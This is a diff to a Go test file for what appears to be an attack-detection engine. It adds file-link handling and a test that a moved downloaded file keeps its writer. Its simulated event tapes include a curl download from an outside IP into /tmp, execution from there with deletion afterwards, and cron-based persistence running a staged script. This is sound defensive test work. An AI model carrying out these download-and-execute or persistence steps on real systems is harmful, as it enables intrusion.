@@ -15,7 +15,7 @@ import (
 // Each lane arrives in its order, one lane may be any time behind another: the story must not depend on it.
 func TestAnyOrderOfTheLanesTellsTheSameStory(t *testing.T) {
 	for name, tape := range map[string]func() *tape{
-		"web shell": webShell, "script": scriptWebShell, "moved": movedAndRemoved, "same path": samePathAgain, "persistence": persistence, "edited table": editedTable,
+		"web shell": webShell, "script": scriptWebShell, "moved": func() *tape { return renamed(event.FileRename) }, "linked": func() *tape { return renamed(event.FileLink) }, "same path": samePathAgain, "persistence": persistence, "edited table": editedTable,
 		"spear phish, closed": func() *tape { return spearPhish(false) }, "spear phish, open": func() *tape { return spearPhish(true) },
 		"two at once": twoAtOnce, "host to host": twoHosts, "injected": injected,
 	} {
@@ -62,9 +62,10 @@ func (t *tape) remove(name, path, inode string) event.Stamped {
 	})
 }
 
-func (t *tape) rename(name, from, to, inode string) event.Stamped {
+// rename gives a file another name, or a second one (event.FileLink).
+func (t *tape) rename(kind event.Kind, name, from, to, inode string) event.Stamped {
 	return t.add(event.Event{
-		Kind: event.FileRename, Actor: *t.procs[name], Parent: t.up(name), OldFile: event.File{Path: from},
+		Kind: kind, Actor: *t.procs[name], Parent: t.up(name), OldFile: event.File{Path: from},
 		File: event.File{Path: to, VolumeID: "0:25", FileID: inode, Mode: 0o100755, Links: 1},
 	})
 }
@@ -87,20 +88,31 @@ func scriptWebShell() *tape {
 	return t
 }
 
-// movedAndRemoved: the file gets another name before it is run, and goes after it.
-func movedAndRemoved() *tape {
+// renamed: the file gets another name before it is run, and goes after it.
+func renamed(kind event.Kind) *tape {
 	t := newTape(hostA)
 	t.running("shell", "init", 20, "/usr/bin/dash", "sh -s")
 	t.start("curl", "shell", 40, "/usr/bin/curl", "curl -o /tmp/t http://203.0.113.9/t")
 	t.connect("curl", "203.0.113.9:80")
 	t.write("curl", "/tmp/t", "77")
 	t.start("mv", "shell", 41, "/usr/bin/mv", "mv /tmp/t /tmp/u")
-	t.rename("mv", "/tmp/t", "/tmp/u", "77")
+	t.rename(kind, "mv", "/tmp/t", "/tmp/u", "77")
 	t.detect(t.startFile("tool", "shell", 42, "/tmp/u", "/tmp/u", "77"), "program run from a temporary folder", detection.High)
 	t.detect(t.start("script", "shell", 43, "/usr/bin/dash", "/bin/sh /tmp/u"), "script run from a temporary folder", detection.High)
 	t.start("rm", "shell", 44, "/usr/bin/rm", "rm /tmp/u")
 	t.remove("rm", "/tmp/u", "77")
 	return t
+}
+
+// Who moves a downloaded file, or gives it a second name, did not write it.
+func TestMovedFileKeepsItsWriter(t *testing.T) {
+	for _, kind := range []event.Kind{event.FileRename, event.FileLink} {
+		tp := renamed(kind)
+		s := tp.story()
+		wantEdge(t, s, incident.EdgeDownloaded, 1)
+		wantEdge(t, s, incident.EdgeWroteExec, 3) // curl to the file, the file to both runs
+		wantMembers(t, tp, s, []string{"curl", "tool", "script"}, nil)
+	}
 }
 
 // samePathAgain: two files, one after the other, have one path; the second got the number of the first.
@@ -130,7 +142,7 @@ func editedTable() *tape {
 	t.write("cp", "/tmp/x/stage", "901")
 	t.start("crontab", "dropper", 73, "/usr/bin/crontab", "crontab -")
 	t.write("crontab", "/var/spool/cron/crontabs/tmp.Ab12", "900")
-	t.detect(t.rename("crontab", "/var/spool/cron/crontabs/tmp.Ab12", "/var/spool/cron/crontabs/web", "900"), "cron table written", detection.Medium)
+	t.detect(t.rename(event.FileRename, "crontab", "/var/spool/cron/crontabs/tmp.Ab12", "/var/spool/cron/crontabs/web", "900"), "cron table written", detection.Medium)
 	t.exit("dropper")
 	t.wait(50)
 	t.start("cronsh", "cron", 81, "/usr/bin/dash", "/bin/sh -c /tmp/x/stage")
